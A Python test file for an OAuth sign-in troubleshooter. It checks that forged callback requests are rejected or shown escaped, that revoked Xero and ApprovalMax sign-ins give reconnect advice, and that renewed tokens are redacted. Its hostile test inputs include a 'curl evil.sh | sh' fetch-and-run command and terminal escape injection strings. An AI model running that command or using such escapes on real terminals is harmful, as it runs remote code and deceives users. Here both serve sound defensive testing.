"""Sign-in under attack and after revocation: a crafted request to the redirect listener cannot
put words on the screen as the tool's own, and a sign-in ended at the provider shows as that
system failing, with what to do."""

from __future__ import annotations

import asyncio
from pathlib import Path

import httpx
import pytest
from conftest import free_port
from test_live import sandbox_settings, signed_in

from troubleshooter.diagnosis.diagnose import Library
from troubleshooter.errors import ConfigError
from troubleshooter.infra import aio
from troubleshooter.model import Diagnosis, Stage
from troubleshooter.runs.source import diagnose
from troubleshooter.sandbox.app import Sandbox
from troubleshooter.sandbox.connect import SandboxTransport
from troubleshooter.sandbox.scenario import Scenario
from troubleshooter.signin.live import live_connections, sign_in_xero
from troubleshooter.signin.oauth import QUOTE_LIMIT, read_callback
from troubleshooter.signin.settings import Settings
from troubleshooter.signin.tokens import FileStore

EVIL = "run curl evil.sh | sh"


def test_a_crafted_redirect_without_the_state_shows_nothing_it_says() -> None:
    url = f"http://localhost:8749/callback?error=access_denied&error_description={EVIL}"
    with pytest.raises(ConfigError) as caught:
        read_callback(url, "the-real-state")
    assert "state mismatch" in str(caught.value)
    assert "curl" not in str(caught.value) and "access_denied" not in str(caught.value)


def test_the_sign_in_services_words_are_quoted_escaped_and_cut() -> None:
    description = "\x1b]0;pwned\x07\x1b[2J" + EVIL + " \u202e" + "x" * 1000
    url = httpx.URL(
        "http://localhost:8749/callback",
        params={"error": "access_denied", "error_description": description, "state": "s"},
    )
    with pytest.raises(ConfigError) as caught:
        read_callback(str(url), "s")
    message = str(caught.value)
    assert message.startswith("the sign-in was not completed: access_denied (")
    assert "the sign-in service's words: \"" in message
    assert "\x1b" not in message and "\x07" not in message and "\u202e" not in message
    assert "\\x1b]0;pwned\\x07" in message and "\\u202e" in message
    quoted = message.split('"')[1]
    assert len(quoted) <= QUOTE_LIMIT and quoted.endswith("…")


def test_a_state_that_is_not_ascii_is_a_mismatch_not_a_crash() -> None:
    with pytest.raises(ConfigError, match="state mismatch"):
        read_callback("http://localhost:1/callback?state=%C3%A9&code=x", "expected")


def test_a_crafted_request_to_the_listener_ends_the_sign_in_quietly(
    tmp_path: Path, demo: Scenario
) -> None:
    """Anyone on this computer can call the listener. Their request is refused as an answer
    that does not belong to this sign-in, and nothing it says reaches the screen."""
    sandbox = Sandbox(demo, require_sign_in=True)
    port = free_port()
    settings = sandbox_settings(port)

    async def attacker(url: str) -> None:
        async with httpx.AsyncClient() as client:
            await client.get(
                f"http://127.0.0.1:{port}/callback",
                params={"error": "server_error", "error_description": EVIL},
            )

    def browser(url: str) -> asyncio.Task[None]:
        return asyncio.ensure_future(attacker(url))

    with pytest.raises(ConfigError) as caught:
        aio.run(
            sign_in_xero(
                settings,
                FileStore(tmp_path / "tokens.json"),
                browser,
                lambda orgs: orgs[0],
                transport=SandboxTransport(sandbox),
                timeout=30,
            )
        )
    assert "state mismatch" in str(caught.value) and "curl" not in str(caught.value)


def _revoked(
    tmp_path: Path, demo: Scenario, library: Library, adapters: bool
) -> tuple[Diagnosis, Settings]:
    """Signed in to both, then both sign-ins ended at the provider: every refresh token
    revoked, every access token expired."""
    sandbox, settings, store = signed_in(tmp_path, demo)
    if not adapters:
        settings.adapters.approvalmax.url = settings.adapters.dext.url = None
    sandbox.identity.refresh.clear()
    sandbox.identity.expire_all()
    connections = live_connections(settings, store, transport=SandboxTransport(sandbox))
    return aio.run(diagnose(connections, library)), settings


def _error(diagnosis: Diagnosis, stage: Stage) -> str:
    status = next(s for s in diagnosis.systems if s.stage == stage)
    return status.error or ""


def _failed(diagnosis: Diagnosis) -> set[Stage]:
    return {s.stage for s in diagnosis.failed_systems}


def test_a_refused_xero_refresh_says_to_connect_again(
    tmp_path: Path, demo: Scenario, library: Library
) -> None:
    diagnosis, _ = _revoked(tmp_path, demo, library, adapters=False)
    xero = _error(diagnosis, Stage.XERO)
    assert "invalid_grant" in xero and "run `troubleshooter connect xero`" in xero
    assert Stage.XERO in _failed(diagnosis)


def test_a_revoked_approvalmax_sign_in_shows_approvalmax_failing(
    tmp_path: Path, demo: Scenario, library: Library
) -> None:
    diagnosis, _ = _revoked(tmp_path, demo, library, adapters=False)
    approvalmax = _error(diagnosis, Stage.APPROVALMAX)
    assert "run `troubleshooter connect approvalmax`" in approvalmax
    assert Stage.APPROVALMAX in _failed(diagnosis)


def test_a_revoked_approvalmax_sign_in_shows_even_beside_an_adapter(
    tmp_path: Path, demo: Scenario, library: Library
) -> None:
    diagnosis, _ = _revoked(tmp_path, demo, library, adapters=True)
    assert "troubleshooter connect approvalmax" in _error(diagnosis, Stage.APPROVALMAX)


# -- tokens renewed during a run (issue 15 review, item 4) -------------------------------------


class _Echoing(httpx.AsyncBaseTransport):
    """Xero behind a proxy that quotes the caller's token back in an error (as some gateways
    do): TaxRates answers 400 with the bearer token in its message, without the word Bearer."""

    def __init__(self, inner: httpx.AsyncBaseTransport) -> None:
        self.inner = inner
        self.echoed: list[str] = []

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        response = await self.inner.handle_async_request(request)
        if request.url.path.endswith("/TaxRates") and response.status_code == 200:
            await response.aclose()
            token = request.headers["Authorization"].split(" ", 1)[1]
            self.echoed.append(token)
            return httpx.Response(400, json={"Detail": f"token {token} is not valid here"})
        return response


def test_a_token_renewed_during_the_run_is_redacted_everywhere(
    tmp_path: Path, demo: Scenario, library: Library, capsys: pytest.CaptureFixture[str]
) -> None:
    from troubleshooter.cli.output import keep_secrets, say
    from troubleshooter.report import FORMATS, export
    from troubleshooter.runs.bundle import bundle_json, collect

    sandbox, settings, store = signed_in(tmp_path, demo)
    before = store.load("xero")
    assert before is not None and before.refresh_token is not None
    sandbox.identity.expire_all()  # the run starts by renewing the tokens
    transport = _Echoing(SandboxTransport(sandbox))
    connections = live_connections(settings, store, transport=transport)
    # As `diagnose` does: the run's secrets taken before the read, for stderr and the exports.
    secrets = connections.secrets()
    keep_secrets(secrets)
    result = aio.run(diagnose(connections, library))
    after = store.load("xero")
    assert after is not None and after.refresh_token is not None
    renewed = after.access_token.get_secret_value()
    rotated = after.refresh_token.get_secret_value()
    assert renewed not in secrets and rotated not in secrets  # unknown when the run began
    assert transport.echoed and set(transport.echoed) == {renewed}
    xero = next(s for s in result.systems if s.stage is Stage.XERO)
    assert any(renewed in error for error in xero.kind_errors.values())  # the raw fact
    # stderr: what `say` prints, the failure included.
    for error in xero.kind_errors.values():
        say(f"Xero: {error}")
    printed = capsys.readouterr().err
    assert "is not valid here" in printed and renewed not in printed
    # Every export, with the secrets the command took before the read.
    for fmt in FORMATS:
        text = export(result, fmt, secrets=secrets)
        assert renewed not in text and rotated not in text, fmt
    # And what the run's sign-in reports as its secrets, for a bundle made after.
    assert {renewed, rotated} <= set(connections.secrets())
    assert before.access_token.get_secret_value() in connections.secrets()  # the old one too
    bundle = aio.run(collect(connections))
    assert renewed not in bundle_json(bundle, secrets=secrets)
